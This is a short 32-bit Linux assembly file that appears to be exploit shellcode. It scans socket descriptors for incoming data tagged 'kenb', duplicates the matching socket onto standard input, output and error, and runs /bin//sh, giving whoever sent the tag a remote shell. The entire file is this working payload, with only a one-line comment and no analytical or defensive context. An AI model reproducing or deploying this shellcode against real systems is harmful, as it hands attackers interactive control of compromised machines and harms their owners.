; Linux, 32 bit: reads from every descriptor without waiting until one says the tag "kenb", then gives it a shell.
bits 32
        xor ebx, ebx
        push ebx
        mov esi, esp
        push byte 0x40          ; MSG_DONTWAIT
        mov bh, 10              ; 2560 bytes
        push ebx
        push esi
        push ebx
        mov ecx, esp
        xor ebx, ebx
        mov bl, 10              ; recv
next:   inc word [ecx]
        push byte 102
        pop eax
        int 80h
        cmp dword [esi], 'kenb'
        jne next
        pop edi
        mov ebx, edi
        push byte 2
        pop ecx
dup:    push byte 63
        pop eax
        int 80h
        dec ecx
        jns dup
        push byte 11
        pop eax
        cdq
        push edx
        push dword '//sh'
        push dword '/bin'
        mov ebx, esp
        push edx
        push ebx
        mov ecx, esp
        int 80h
